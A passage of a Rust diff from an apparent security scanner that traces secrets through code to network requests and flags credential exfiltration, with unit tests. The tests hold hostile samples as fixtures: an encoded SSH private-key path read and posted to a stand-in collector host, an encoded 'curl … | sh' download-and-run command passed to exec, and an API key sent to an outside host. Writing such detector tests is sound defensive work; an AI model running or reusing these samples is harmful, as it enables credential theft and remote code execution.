+                let mut out = format_template(&template, &args, "{}");
+                out.carry(&carried.secrets);
+                out
+            }
+            Some(Role::Send) => {
+                let url = first
+                    .cloned()
+                    .or_else(|| {
+                        values
+                            .iter()
+                            .find(|(k, _)| matches!(k, Some("url" | "uri")))
+                            .map(|(_, v)| v.clone())
+                    })
+                    .unwrap_or_default();
+                self.sink_request(&url, &carried.secrets, false, at);
+                // A request object carries what it will send (`Request(url, data)`).
+                let mut out = Value::unknown_carrying(carried.secrets);
+                out.texts = url.texts.clone();
+                out
+            }
+            Some(Role::Resolve) => {
+                let name = subject();
+                self.sink_request(&name, &carried.secrets, true, at);
+                Value::default()
+            }
+            None => Value::unknown_carrying(carried.secrets),
+        };
+        // A callback receives what the call produces (`readFile(p, (e, data) => …)`,
+        // `.then(r => …)`).
+        for (_, value) in &values {
+            if let Some(callback) = &value.function {
+                let args: Vec<(Option<&str>, Value)> = callback
+                    .params
+                    .iter()
+                    .map(|_| (None, result.clone()))
+                    .collect();
+                self.follow(callback.clone(), &args);
+            }
+        }
+        result
+    }
+
+    /// Evaluates a helper's body with the call's arguments bound to its parameters.
+    fn follow(&mut self, function: Rc<Function>, args: &[(Option<&str>, Value)]) -> Value {
+        let id = Rc::as_ptr(&function);
+        let mut carried = Value::default();
+        for (_, v) in args {
+            carried.carry(&v.all_secrets());
+        }
+        if self.calls.len() >= MAX_CALL_DEPTH || self.calls.contains(&id) {
+            return Value::unknown_carrying(carried.secrets);
+        }
+        let mut scope = HashMap::new();
+        let mut positional = args.iter().filter(|(k, _)| k.is_none()).map(|(_, v)| v);
+        for param in &function.params {
+            let value = args
+                .iter()
+                .find(|(k, _)| *k == Some(param.as_str()))
+                .map(|(_, v)| v)
+                .or_else(|| positional.next())
+                .cloned()
+                .unwrap_or_default();
+            scope.insert(param.clone(), value);
+        }
+        self.calls.push(id);
+        self.scopes.push(scope);
+        self.returns.push(Value::default());
+        let weak = std::mem::replace(&mut self.weak, 0);
+        self.block(&function.body);
+        self.weak = weak;
+        self.scopes.pop();
+        self.calls.pop();
+        self.returns.pop().unwrap_or_default()
+    }
+
+    /// A request (or DNS lookup) to `address` carrying `secrets`.
+    fn sink_request(&mut self, address: &Value, secrets: &[Secret], dns: bool, at: usize) {
+        if secrets.is_empty() {
+            return;
+        }
+        let url = match address.texts.first() {
+            Some(text) => text.clone(),
+            None => address.renderings().remove(0),
+        };
+        // A secret in the host name of a URL whose scheme is known (`https://${key}.x.net`);
+        // a wholly unknown address says nothing about where the secret sits.
+        let host_part = url
+            .split_once("://")
+            .and_then(|(_, rest)| rest.split(['/', '?', '#']).next())
+            .unwrap_or("");
+        let in_name = dns || host_part.contains(SECRET_HOLE);
+        let host = knowledge::host_of(&url);
+        let shown_host = host.clone().unwrap_or_else(|| "*".into());
+        for secret in secrets {
+            let line = self.sink.line_of(secret.at);
+            let from = match line {
+                Some(line) => format!(" (read on line {line})"),
+                None => String::new(),
+            };
+            match secret.kind {
+                SecretKind::File => {
+                    let how = if in_name {
+                        "in a DNS name".to_owned()
+                    } else {
+                        format!("to {shown_host}")
+                    };
+                    self.sink.emit(
+                        rules::CRED_EXFILTRATION,
+                        at,
+                        format!("sends the content of {}{from} {how}", secret.what),
+                        Some(shown_host.clone()),
+                    );
+                }
+                SecretKind::Env => {
+                    let why = knowledge::secret_sent_wrongly(
+                        &secret.what,
+                        in_name,
+                        host.as_deref(),
+                        Some(url.as_str()),
+                    );
+                    if let Some(why) = why {
+                        self.sink.emit(
+                            rules::CRED_IN_REQUEST,
+                            at,
+                            format!("sends ${}{from} {why}", secret.what),
+                            Some(shown_host.clone()),
+                        );
+                    }
+                }
+            }
+        }
+    }
+}
+
+/// The character a string escape (`\n`, `\x41`, `\u{1F600}`) stands for, as Python and
+/// JavaScript write them; an escape not understood stays as written.
+pub(crate) fn unescape(escape: &str) -> String {
+    match escape {
+        "\\n" => "\n".into(),
+        "\\t" => "\t".into(),
+        "\\'" => "'".into(),
+        "\\\"" => "\"".into(),
+        "\\\\" => "\\".into(),
+        other => {
+            let hex = other
+                .strip_prefix("\\x")
+                .or_else(|| other.strip_prefix("\\u"));
+            hex.and_then(|h| u32::from_str_radix(h.trim_matches(['{', '}']), 16).ok())
+                .and_then(char::from_u32)
+                .map_or_else(|| other.to_owned(), |c| c.to_string())
+        }
+    }
+}
+
+/// Decoded constant text (base64 or hex); unknown input stays unknown.
+fn decode(role: Role, input: &Value, secrets: Vec<Secret>) -> Value {
+    let mut out = Value::unknown_carrying(secrets);
+    for text in &input.texts {
+        let decoded = if role == Role::Base64 {
+            text::decode_base64_text(text)
+        } else {
+            text::decode_hex(text.trim()).and_then(|b| String::from_utf8(b).ok())
+        };
+        if let Some(decoded) = decoded
+            && out.texts.len() < MAX_ALTERNATIVES
+        {
+            out.texts.push(decoded);
+        }
+    }
+    out
+}
+
+/// Whether an `open(path, mode)` call writes rather than reads.
+fn mode_writes(values: &[(Option<&str>, Value)]) -> bool {
+    let mode = values
+        .iter()
+        .filter(|(k, _)| k.is_none())
+        .nth(1)
+        .or_else(|| values.iter().find(|(k, _)| *k == Some("mode")))
+        .map(|(_, v)| v);
+    mode.is_some_and(|m| {
+        m.texts
+            .iter()
+            .any(|t| t.len() <= 4 && t.contains(['w', 'a', 'x']))
+    })
+}
+
+fn join_items(items: &Value, separator: &Value, secrets: Vec<Secret>) -> Value {
+    let mut pieces = Vec::new();
+    if items.items.is_empty() {
+        let mut out = Value::unknown_carrying(secrets);
+        out.carry(&items.all_secrets());
+        return out;
+    }
+    for (i, item) in items.items.iter().enumerate() {
+        if i > 0 {
+            pieces.push(separator.clone());
+        }
+        pieces.push(item.clone());
+    }
+    let mut out = concat(&pieces);
+    out.carry(&secrets);
+    out
+}
+
+/// A template with each `marker` replaced by the next argument.
+fn format_template(template: &Value, args: &[Value], marker: &str) -> Value {
+    let mut out = Value::default();
+    for arg in args {
+        out.carry(&arg.all_secrets());
+    }
+    out.carry(&template.secrets);
+    for text in &template.texts {
+        let mut pieces = Vec::new();
+        let mut rest = text.as_str();
+        let mut next = args.iter();
+        while let Some(at) = rest.find(marker) {
+            pieces.push(Value::text(&rest[..at]));
+            pieces.push(next.next().cloned().unwrap_or_default());
+            rest = &rest[at + marker.len()..];
+        }
+        pieces.push(Value::text(rest));
+        let value = concat(&pieces);
+        for text in value.texts {
+            if out.texts.len() < MAX_ALTERNATIVES {
+                out.texts.push(text);
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn call(name: &str, args: Vec<Expr>) -> Expr {
+        Expr::Call {
+            callee: Box::new(Expr::Var(name.into())),
+            args: args
+                .into_iter()
+                .map(|value| Arg { key: None, value })
+                .collect(),
+            at: 0,
+        }
+    }
+
+    fn rules_of(lang: Lang, body: &[Stmt]) -> (Vec<&'static str>, u32) {
+        let text = "x\n".repeat(8);
+        let mut sink = Sink::new("f", &text);
+        let steps = run(lang, body, &mut sink);
+        let rules = sink.finish().0.iter().map(|f| f.rule).collect();
+        (rules, steps)
+    }
+
+    #[test]
+    fn a_secret_followed_through_a_loop_a_helper_and_a_decoder_reaches_the_request() {
+        // for item in ["~/.ssh/id_rsa"]: data = load(item); requests.post(URL, data=data)
+        let helper = Rc::new(Function {
+            name: "load".into(),
+            params: vec!["p".into()],
+            body: vec![Stmt::Return(call("open", vec![Expr::Var("p".into())]))],
+        });
+        let body = vec![
+            Stmt::Def(helper),
+            Stmt::Loop {
+                vars: vec!["item".into()],
+                iter: Expr::Build(vec![(
+                    None,
+                    call("atob", vec![Expr::Str("fi8uc3NoL2lkX3JzYQ==".into())]),
+                )]),
+                body: vec![Stmt::Let(
+                    "data".into(),
+                    call("load", vec![Expr::Var("item".into())]),
+                )],
+            },
+            Stmt::Eval(call(
+                "fetch",
+                vec![
+                    Expr::Str("https://collector.example/x".into()),
+                    Expr::Var("data".into()),
+                ],
+            )),
+        ];
+        let (rules, _) = rules_of(Lang::JavaScript, &body);
+        // `open` is a Python row: in JavaScript the same file reads nothing.
+        assert!(!rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+        let python: Vec<Stmt> = body
+            .into_iter()
+            .map(|s| match s {
+                Stmt::Loop { vars, body, .. } => Stmt::Loop {
+                    vars,
+                    iter: Expr::Build(vec![(
+                        None,
+                        call(
+                            "base64.b64decode",
+                            vec![Expr::Str("fi8uc3NoL2lkX3JzYQ==".into())],
+                        ),
+                    )]),
+                    body,
+                },
+                Stmt::Eval(_) => Stmt::Eval(call(
+                    "requests.post",
+                    vec![
+                        Expr::Str("https://collector.example/x".into()),
+                        Expr::Var("data".into()),
+                    ],
+                )),
+                other => other,
+            })
+            .collect();
+        let (rules, _) = rules_of(Lang::Python, &python);
+        assert!(rules.contains(&rules::CRED_SENSITIVE_PATH), "{rules:?}");
+        assert!(rules.contains(&rules::CRED_EXFILTRATION), "{rules:?}");
+    }
+
+    #[test]
+    fn base32_and_base85_payloads_are_decoded_and_scanned() {
+        // "curl -s http://203.0.113.9/x | sh" in three encodings, each decoded at run time.
+        let cases = [
+            (
+                "base64.b32decode",
+                "MN2XE3BAFVZSA2DUORYDULZPGIYDGLRQFYYTCMZOHEXXQID4EBZWQ===",
+            ),
+            (
+                "base64.b85decode",
+                "V|8+DAT4tsXmoUNIxjCWFf%SNE-^7PE;%oFAbcQmXa",
+            ),
+            (
+                "base64.a85decode",
+                "@s)g.+>%XWBQS?83\\N-A0Jb=8/ho(:/ibS0+FG;QBE",
+            ),
+        ];
+        for (decoder, blob) in cases {
+            let body = vec![Stmt::Eval(call(
+                "exec",
+                vec![call(decoder, vec![Expr::Str(blob.into())])],
+            ))];
+            let (rules, _) = rules_of(Lang::Python, &body);
+            assert!(
+                rules.contains(&rules::EXEC_PIPE_TO_SHELL_RAW),
+                "{decoder}: {rules:?}"
+            );
+        }
+        assert_eq!(text::decode_base32("MZXW6==="), Some(b"foo".to_vec()));
+        assert_eq!(text::decode_base85("W^Zo", false), Some(b"foo".to_vec()));
+        assert_eq!(text::decode_base85("z", true), Some(vec![0; 4]));
+        assert_eq!(text::decode_base85("!!!", true).map(|v| v.len()), Some(2));
+        assert!(text::decode_base32("not base32!").is_none());
+    }
+
+    #[test]
+    fn a_provider_key_sent_to_its_provider_is_not_a_finding_but_elsewhere_it_is() {
+        let send = |url: &str| {
+            vec![
+                Stmt::Let(
+                    "key".into(),
+                    call("os.getenv", vec![Expr::Str("OPENAI_API_KEY".into())]),
+                ),
+                Stmt::Eval(call(
+                    "requests.post",
+                    vec![
+                        Expr::Str(url.into()),
+                        Expr::Concat(vec![Expr::Str("Bearer ".into()), Expr::Var("key".into())]),
+                    ],
+                )),
+            ]
+        };
+        let (own, _) = rules_of(Lang::Python, &send("https://api.openai.com/v1/chat"));
+        assert!(!own.contains(&rules::CRED_IN_REQUEST), "{own:?}");
+        let (other, _) = rules_of(Lang::Python, &send("https://collector.example/v1"));
+        assert!(other.contains(&rules::CRED_IN_REQUEST), "{other:?}");
+    }
+
+    /// The work bound: helpers called from everywhere, loops nested deep and values that
+    /// double at each statement stop at [`MAX_STEPS`] and stay fast.
+    #[test]
+    fn adversarial_input_stays_within_the_step_bound() {
+        let mut helper_body = Vec::new();
+        for _ in 0..2_000 {
+            helper_body.push(Stmt::Let(
+                "s".into(),
+                Expr::Concat(vec![Expr::Var("s".into()), Expr::Var("s".into())]),
+            ));
+            helper_body.push(Stmt::Let(
+                "l".into(),
+                Expr::Build(vec![
+                    (None, Expr::Var("l".into())),
+                    (None, Expr::Var("l".into())),
+                ]),
+            ));
+        }
+        let helper = Rc::new(Function {
+            name: "h".into(),
+            params: Vec::new(),
+            body: helper_body,
+        });
+        let mut nested = vec![Stmt::Eval(call("h", Vec::new()))];
+        for _ in 0..20 {
+            nested = vec![Stmt::Loop {
+                vars: vec!["i".into()],
+                iter: Expr::Build(vec![(None, Expr::Str("a".repeat(1000)))]),
+                body: nested,
+            }];
+        }
+        let mut body = vec![
+            Stmt::Let("s".into(), Expr::Str("x".repeat(1000))),
+            Stmt::Def(helper),
+        ];
+        body.extend(nested);
+        for _ in 0..10_000 {
+            body.push(Stmt::Eval(call("h", Vec::new())));
+        }
+        let started = std::time::Instant::now();
+        let (_, steps) = rules_of(Lang::Python, &body);
+        assert_eq!(steps, MAX_STEPS);
+        assert!(
+            started.elapsed() < std::time::Duration::from_secs(60),
+            "took {:?}",
+            started.elapsed()
+        );
+    }
+}
